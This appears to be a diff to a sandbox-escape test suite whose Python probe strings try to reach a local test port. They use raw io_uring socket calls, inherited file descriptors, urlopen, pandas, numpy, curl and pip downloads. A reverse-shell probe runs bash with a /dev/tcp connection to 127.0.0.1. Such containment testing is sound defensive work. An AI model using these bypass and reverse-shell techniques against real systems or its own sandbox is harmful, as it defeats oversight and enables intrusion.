@@ -157,14 +157,15 @@ requests = mmap.mmap(ring, 4096, mmap.MAP_SHARED | 0x8000, offset=0x10000000)
 def submit(opcode, fd, address, offset, length):
     at = struct.unpack_from("=I", queue, tail)[0]
     index = at & struct.unpack_from("=I", queue, mask)[0]
-    requests[index * 64 : index * 64 + 64] = struct.pack("=BBHiQQII", opcode, 0, 0, fd, offset, address, length, 0) + bytes(28)
+    requests[index * 64 : index * 64 + 64] = struct.pack("=BBHiQQII", opcode, 0, 0, fd, offset, address, length, 0) + bytes(32)
     struct.pack_into("=I", queue, array + 4 * index, index)
     struct.pack_into("=I", queue, tail, at + 1)
     call(426, ring, 1, 1, 1, 0, 0)
     return struct.unpack_from("=i", queue, completions + 16 * at + 8)[0]
 fd = submit(45, 2, 0, 1, 0)  # IORING_OP_SOCKET
 if fd < 0: return f"no socket: {{fd}}"
-submit(16, fd, ctypes.addressof(ctypes.create_string_buffer(here)), 16, 0)  # IORING_OP_CONNECT
+address = ctypes.create_string_buffer(here)
+submit(16, fd, ctypes.addressof(address), 16, 0)  # IORING_OP_CONNECT
 return "succeeded: a socket by io_uring"
 """
 INHERITED = """
@@ -177,31 +178,32 @@ for fd in range(5, 1024):
 return f"succeeded: can write to the sockets {found}" if found else "none"
 """
 DOWNLOAD = """
-import io, subprocess, sys, urllib.request
-url = f"http://127.0.0.1:{facts['port']}/data.csv"
+import socket, subprocess, sys, urllib.request
+socket.setdefaulttimeout(0.1)
+url = f"http://127.0.0.1:{facts['port']}/data.csv"  # torch.hub and the like use urlopen too
 def table():
     import pandas
     pandas.read_csv(url)
 def source():
-    import numpy.lib._datasource as datasource
-    datasource.open(url)
-pip = [sys.executable, "-m", "pip", "--timeout", "0.1", "--retries", "0", "download", "--index-url", url, "nothing"]
-ways = {
-    "urlopen": lambda: urllib.request.urlopen(url, timeout=0.1),
-    "legacy": lambda: urllib.request.FancyURLopener().open(url),
-    "program": lambda: subprocess.run(["/bin/true"], check=True) and "succeeded: could run pip",
-    "curl": lambda: subprocess.run(["curl", "-m", "0.1", url], check=True),
-}
-import socket
-socket.setdefaulttimeout(0.1)
-for way in (*ways.values(), table, source):
-    try:
-        if isinstance(answer := way(), str): return answer
+    import numpy as np
+    np.lib.npyio.DataSource(None).open(url)
+options = ["--isolated", "--no-cache-dir", "--disable-pip-version-check", "--timeout", "0.1", "--retries", "0"]
+pip = [sys.executable, "-m", "pip", *options, "download", "--index-url", url, "nothing"]
+ways = (
+    lambda: urllib.request.urlopen(url),
+    lambda: urllib.request.urlretrieve(url),
+    table,
+    source,
+    lambda: subprocess.run(["curl", "-m", "0.1", url], check=True),
+    lambda: subprocess.run(pip, cwd=facts["folder"], timeout=0.5),
+)
+for way in ways:
+    try: way()
     except Exception: pass
 return "tried"
 """
 REVERSE_SHELL = f"""{CALLS}
-import os, pty, socket, subprocess
+import os, socket, subprocess
 port, got = facts["port"], []
 def connected():
     with socket.create_connection(("127.0.0.1", port), timeout=0.2) as sock:
@@ -221,7 +223,10 @@ for name, way in ways.items():
     except Exception: pass
 if got: return "succeeded: a shell by " + ", ".join(got)
 empty = struct.pack("P", 0)
-program = b"/bin/sh\\0"; words = struct.pack("4P", *(ctypes.addressof(ctypes.create_string_buffer(word)) for word in ()), 0, 0, 0, 0)
+program = b"/bin/bash\\0"
+buffers = [ctypes.create_string_buffer(word) for word in (
+    b"bash", b"-c", f"exec 3<>/dev/tcp/127.0.0.1/{{port}}".encode())]
+words = struct.pack("4P", *map(ctypes.addressof, buffers), 0)
 call(EXECVE, program, words, empty)  # comes back only when it fails
 call(EXECVEAT, -100, program, words, empty, 0)
 return "nothing"
